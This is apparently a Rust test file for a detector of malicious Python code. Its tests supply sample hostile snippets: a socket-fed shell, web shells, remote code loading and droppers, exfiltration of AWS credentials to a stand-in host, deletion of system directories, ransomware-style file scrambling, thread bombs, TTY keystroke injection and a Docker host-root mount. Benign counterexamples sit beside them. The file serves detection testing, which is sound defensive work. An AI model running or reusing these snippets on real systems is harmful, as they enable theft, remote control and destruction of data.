@@ -1,0 +1,182 @@
+//! One behaviour per test, spelled in ways no corpus script uses: the data
+//! flow (sources to sinks through parameters, containers, returns, threads),
+//! the path taxonomy (defaults, `os.sep`, f-strings, loops over literal
+//! lists), and the benign counter-patterns next to each.
+
+use super::{assess, AssessConfig, Assessment, Verdict};
+
+fn run(src: &str) -> Assessment {
+    assess("t.py", src.as_bytes(), &AssessConfig::default()).unwrap()
+}
+
+fn rules(a: &Assessment) -> Vec<&str> {
+    a.findings.iter().map(|f| f.rule.as_str()).collect()
+}
+
+fn finding<'a>(a: &'a Assessment, rule: &str) -> &'a super::Finding {
+    a.findings
+        .iter()
+        .find(|f| f.rule == rule)
+        .unwrap_or_else(|| panic!("no {rule} in {:?}", a.findings))
+}
+
+#[test]
+fn network_data_through_a_parameter_runs_as_a_command() {
+    let src = "import socket, subprocess\n\ndef run(cmd):\n    return subprocess.check_output(cmd, shell=True)\n\nconn = socket.create_connection(('h', 1))\nwhile True:\n    run(conn.recv(99))\n";
+    let a = run(src);
+    let f = finding(&a, "MB913");
+    assert_eq!(f.line, 4);
+    assert!(
+        f.detail.contains("conn.recv(99)") && f.detail.contains("line 8"),
+        "{}",
+        f.detail
+    );
+    assert_eq!(a.verdict, Verdict::Blocked);
+}
+
+#[test]
+fn web_handlers_that_run_the_request() {
+    let handler = "import subprocess\nfrom http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_PUT(self):\n        body = self.rfile.read(int(self.headers['Content-Length']))\n        subprocess.Popen(body.decode().split())\n";
+    assert!(rules(&run(handler)).contains(&"MB913"));
+    let route = "import os\nfrom flask import Flask\napp = Flask(__name__)\n@app.route('/x/<name>')\ndef x(name):\n    return os.popen('host ' + name).read()\n";
+    assert!(
+        rules(&run(route)).contains(&"MB913"),
+        "{:?}",
+        run(route).findings
+    );
+    // A handler that only answers is not a web shell.
+    let honest = "from http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.wfile.write(self.path.encode())\n";
+    assert!(run(honest).verdict < Verdict::High);
+}
+
+#[test]
+fn code_from_the_network_through_containers_and_returns() {
+    let src = "import urllib.request, marshal\n\ndef fetch():\n    return urllib.request.urlopen('http://x/c').read()\n\nparts = []\nparts.append(fetch())\ncode = marshal.loads(b''.join(parts))\n";
+    let a = run(src);
+    assert!(rules(&a).contains(&"MB914"), "{:?}", a.findings);
+    let table = "import requests, subprocess\nrunners = {'a': subprocess.getoutput}\njob = requests.get('http://x').json()\nrunners[job['k']](job['v'])\n";
+    let a = run(table);
+    assert!(finding(&a, "MB913").detail.contains("table entry"));
+    // Local pure functions in a table are no sink.
+    let pure = "import requests\nops = {'neg': lambda x: -x}\njob = requests.get('http://x').json()\nprint(ops[job['k']](job['v']))\n";
+    assert!(
+        run(pure).verdict < Verdict::High,
+        "{:?}",
+        run(pure).findings
+    );
+}
+
+#[test]
+fn user_input_in_a_shell_string_is_high_and_quoting_clears_it() {
+    let a = run("import subprocess, sys\nsubprocess.run(f\"tar xf {sys.argv[1]}\", shell=True)\n");
+    assert!(rules(&a).contains(&"MB422"));
+    assert_eq!(a.verdict, Verdict::High);
+    let quoted = run("import subprocess, sys, shlex\nsubprocess.run('tar xf ' + shlex.quote(sys.argv[1]), shell=True)\n");
+    assert!(!rules(&quoted).contains(&"MB422"), "{:?}", quoted.findings);
+}
+
+#[test]
+fn persistence_through_defaults_and_helpers() {
+    let src = "import os\n\ndef rc(name, home=os.path.expanduser('~')):\n    return os.path.join(home, name)\n\nwith open(rc('.bash_profile'), 'a') as f:\n    f.write('run-me\\n')\n";
+    let a = run(src);
+    let f = finding(&a, "MB906");
+    assert!(f.detail.contains("~/.bash_profile"), "{}", f.detail);
+    let config = "import os\nwith open(os.path.join(os.path.expanduser('~'), '.config', 'x.toml'), 'w') as f:\n    f.write('a = 1')\n";
+    assert!(run(config).verdict < Verdict::High);
+}
+
+#[test]
+fn destruction_of_roots_but_not_of_own_directories() {
+    for src in [
+        "import shutil, os\nfor d in ('usr', 'var/lib/dpkg'):\n    shutil.rmtree(os.sep + d)\n",
+        "import os\ndef nuke(top=os.path.expanduser('~')):\n    for r, _, fs in os.walk(top):\n        for f in fs:\n            os.unlink(os.path.join(r, f))\nnuke()\n",
+    ] {
+        let a = run(src);
+        assert!(rules(&a).contains(&"MB907"), "{src}: {:?}", a.findings);
+    }
+    for src in [
+        "import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.rmtree(d)\n",
+        "import shutil\nshutil.rmtree('build', ignore_errors=True)\n",
+        "import os\nfor r, _, fs in os.walk('cache'):\n    for f in fs:\n        os.remove(os.path.join(r, f))\n",
+    ] {
+        assert!(run(src).verdict < Verdict::High, "{src}: {:?}", run(src).findings);
+    }
+}
+
+#[test]
+fn ransomware_needs_walk_scramble_and_removal() {
+    let src = "import os\ndef lock(p):\n    data = open(p, 'rb').read()\n    open(p + '.x', 'wb').write(bytes(b ^ 7 for b in data))\n    os.remove(p)\nfor r, _, fs in os.walk('/srv'):\n    for f in fs:\n        lock(os.path.join(r, f))\n";
+    assert!(rules(&run(src)).contains(&"MB917"));
+    // The same without removing the originals is an encrypted copy.
+    let copy = src.replace("    os.remove(p)\n", "");
+    assert!(!rules(&run(&copy)).contains(&"MB917"));
+}
+
+#[test]
+fn droppers_match_the_downloaded_path() {
+    let src = "import os, tempfile, requests\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(requests.get('http://x/b').content)\nf.close()\nos.execv(f.name, [f.name])\n";
+    let a = run(src);
+    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
+    let unrelated = "import os, requests\nopen('data.bin', 'wb').write(requests.get('http://x/b').content)\nos.execv('/usr/bin/true', ['true'])\n";
+    assert!(!rules(&run(unrelated)).contains(&"MB915"));
+}
+
+#[test]
+fn secrets_that_reach_a_send() {
+    let src = "import pathlib, base64, urllib.request\nkey = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\nurllib.request.urlopen('http://x/?q=' + base64.b64encode(key.encode()).decode())\n";
+    let a = run(src);
+    let f = finding(&a, "MB916");
+    assert!(f.detail.contains("read_text"), "{}", f.detail);
+}
+
+#[test]
+fn endless_loops_that_exhaust() {
+    assert!(rules(&run(
+        "import threading\nwhile True:\n    threading.Thread(target=print).start()\n"
+    ))
+    .contains(&"MB918"));
+    assert!(rules(&run("import hashlib\nn = 0\nwhile True:\n    hashlib.md5(str(n).encode()).digest()\n    n += 1\n")).contains(&"MB905"));
+    // Waiting, leaving or a bounded condition: not a bomb.
+    for src in [
+        "import time\nlog = []\nwhile True:\n    log.append(time.time())\n    time.sleep(1)\n",
+        "buf = []\nwhile True:\n    line = input()\n    if not line:\n        break\n    buf.append(line)\n",
+        "xs = []\nwhile len(xs) < 10:\n    xs.append(1)\n",
+    ] {
+        assert!(run(src).verdict < Verdict::High, "{src}: {:?}", run(src).findings);
+    }
+}
+
+#[test]
+fn host_devices_and_the_container_runtime() {
+    assert!(rules(&run(
+        "import fcntl\nfor c in 'id\\n':\n    fcntl.ioctl(0, 0x5412, c)\n"
+    ))
+    .contains(&"MB919"));
+    assert!(rules(&run(
+        "f = open('/dev/input/event3', 'rb')\nprint(f.read(24))\n"
+    ))
+    .contains(&"MB920"));
+    let docker = "import docker\ndocker.from_env().containers.run('alpine', 'id', volumes={'/': {'bind': '/h'}})\n";
+    assert!(rules(&run(docker)).contains(&"MB921"));
+    let listing = "import docker\nprint(docker.from_env().containers.list())\n";
+    let a = run(listing);
+    assert!(rules(&a).contains(&"MB423") && a.verdict == Verdict::High);
+}
+
+#[test]
+fn counter_patterns_validated_eval_and_literal_imports() {
+    let calc = "import ast\ndef calc(s):\n    tree = ast.parse(s, mode='eval')\n    for n in ast.walk(tree):\n        if not isinstance(n, (ast.Expression, ast.BinOp, ast.Constant, ast.Add)):\n            raise ValueError(n)\n    return eval(compile(tree, '<c>', 'eval'))\nprint(calc(input()))\n";
+    let a = run(calc);
+    assert!(
+        rules(&a).contains(&"MB111") && a.verdict < Verdict::High,
+        "{:?}",
+        a.findings
+    );
+    // Parsed but never checked: still eval of computed code.
+    let unchecked = "import ast\ntree = ast.parse(input(), mode='eval')\nprint(eval(compile(tree, '<c>', 'eval')))\n";
+    assert_eq!(run(unchecked).verdict, Verdict::High);
+    let lit = "import importlib\nfor m in ['json', 'csv']:\n    importlib.import_module(m)\n";
+    assert!(run(lit).verdict < Verdict::High);
+    let argv = "import importlib, sys\nfor m in sys.argv[1:]:\n    importlib.import_module(m)\n";
+    assert!(rules(&run(argv)).contains(&"MB411"));
+}
